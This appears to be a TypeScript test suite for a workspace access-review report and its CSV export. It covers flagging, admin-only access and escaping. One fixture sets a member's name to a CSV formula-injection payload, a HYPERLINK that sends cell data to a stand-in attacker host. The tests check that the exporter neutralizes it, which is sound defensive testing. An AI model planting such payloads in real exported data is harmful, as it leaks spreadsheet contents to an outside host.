import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, it } from "node:test";
import { rejectsWithCode } from "../chat/test-harness";
import type { TMemberActor } from "../rbac/actors";
import { addMember } from "../workspace/add-member";
import { buildAccessReview } from "./build-access-review";
import { neutralizeCsvFormula, quoteCsvCell, renderAccessReviewCsv } from "./render-access-review-csv";
import { createLifecycleHarness, daysAfter, type TLifecycleHarness } from "./test-fixtures";

describe("access review", () => {
  let h: TLifecycleHarness;
  let fresh: TMemberActor;
  let stale: TMemberActor;
  let injector: TMemberActor;
  let invitedId: string;
  let leaverId: string;

  before(async () => {
    h = await createLifecycleHarness();
    const scope = h.store.scoped(h.workspaceId);
    fresh = await h.addMember("manager", [h.general.id], "fresh@acme.test");
    stale = await h.addMember("agent", [h.general.id], "stale@acme.test");
    injector = await h.addMember("agent", [], "injector@acme.test");
    invitedId = (
      await addMember(h.deps, h.admin, {
        email: "invited@acme.test",
        name: "Ivy Invited",
        role: "agent",
        departmentIds: [],
        passwordHash: null,
      })
    ).id;
    const leaver = await h.addMember("agent", [h.general.id], "leaver@acme.test");
    leaverId = leaver.memberId;
    h.clock.now = daysAfter(200);
    await scope.members.update(fresh.memberId, { twoFactorEnabled: true, lastSignInAt: daysAfter(199) });
    await scope.members.update(h.admin.memberId, { twoFactorEnabled: true, lastSignInAt: daysAfter(200) });
    await scope.members.update(stale.memberId, { lastSignInAt: daysAfter(100) });
    await scope.members.update(injector.memberId, {
      name: '=HYPERLINK("https://evil.test/?"&A1,"Click")',
      lastSignInAt: daysAfter(199),
    });
    await scope.members.update(leaverId, { status: "deactivated", lastSignInAt: daysAfter(150) });
    const session = (memberId: string, lastSeenAt: Date, revokedAt: Date | null = null) =>
      scope.sessions.create({
        id: randomUUID(),
        memberId,
        tokenHash: randomUUID().replaceAll("-", "").padEnd(64, "0"),
        userAgent: "Firefox",
        ip: null,
        createdAt: lastSeenAt,
        lastSeenAt,
        expiresAt: new Date(lastSeenAt.getTime() + 12 * 3_600_000),
        revokedAt,
      });
    await session(fresh.memberId, daysAfter(200));
    await session(fresh.memberId, daysAfter(200));
    await session(fresh.memberId, daysAfter(200), daysAfter(200)); // revoked
    await session(fresh.memberId, daysAfter(199)); // idle for a day
    await session(leaverId, daysAfter(200));
  });
  after(() => h.dispose());

  it("lists every member with role, departments, 2FA, last sign-in and live sessions, flagging what needs a look", async () => {
    const review = await buildAccessReview(h.deps, h.admin);
    const byId = new Map(review.members.map((m) => [m.memberId, m]));
    assert.equal(review.members.length, 6);
    assert.deepEqual(byId.get(fresh.memberId)?.departments, ["General"]);
    assert.equal(byId.get(fresh.memberId)?.activeSessionCount, 2);
    assert.deepEqual(byId.get(fresh.memberId)?.flags, []);
    assert.deepEqual(byId.get(h.admin.memberId)?.flags, []);
    assert.deepEqual(byId.get(stale.memberId)?.flags, ["no-2fa", "unused-90-days"]);
    assert.deepEqual(byId.get(injector.memberId)?.flags, ["no-2fa"]);
    assert.deepEqual(byId.get(invitedId)?.flags, ["no-2fa", "unused-90-days", "invited-never-signed-in"]);
    assert.deepEqual(byId.get(leaverId)?.flags, ["deactivated-with-sessions"]);
    assert.deepEqual(review.counts, { members: 6, active: 4, withTwoFactor: 2, flagged: 4 });
    const audit = (await h.store.scoped(h.workspaceId).audit.list()).filter(
      (e) => e.action === "access-review.build",
    );
    assert.deepEqual(audit[0]?.details, { memberCount: 6, flaggedCount: 4 });
  });

  it("is for admins only", async () => {
    await rejectsWithCode(buildAccessReview(h.deps, fresh), "access.denied");
  });

  // Attack: a member names themself `=HYPERLINK(…)` so the admin's spreadsheet runs it when the CSV opens.
  it("renders RFC 4180 CSV with formula cells neutralized", async () => {
    const csv = renderAccessReviewCsv(await buildAccessReview(h.deps, h.admin));
    const lines = csv.split("\r\n");
    assert.equal(
      lines[0],
      "Name,Email,Role,Departments,Status,Two-factor,Last sign-in,Active sessions,Flags",
    );
    assert.equal(lines.at(-1), "", "every line ends with CRLF");
    const injected = lines.find((l) => l.includes("HYPERLINK"));
    assert.equal(injected?.startsWith(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click"")"`), true);
    assert.ok(!lines.some((l) => /^"?[=+\-@]/.test(l)));
  });

  it("neutralizes every formula trigger and quotes only what needs it, and leaves ordinary text alone", () => {
    for (const trigger of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]) {
      assert.equal(neutralizeCsvFormula(trigger), `'${trigger}`);
    }
    for (const plain of [
      "Ada Lovelace",
      "ada@acme.test",
      "2026-01-01T00:00:00.000Z",
      "no-2fa; unused-90-days",
      "a=b",
    ]) {
      assert.equal(neutralizeCsvFormula(plain), plain);
    }
    assert.equal(quoteCsvCell('say "hi", twice'), '"say ""hi"", twice"');
    assert.equal(quoteCsvCell("line\nbreak"), '"line\nbreak"');
    assert.equal(quoteCsvCell("plain"), "plain");
  });
});
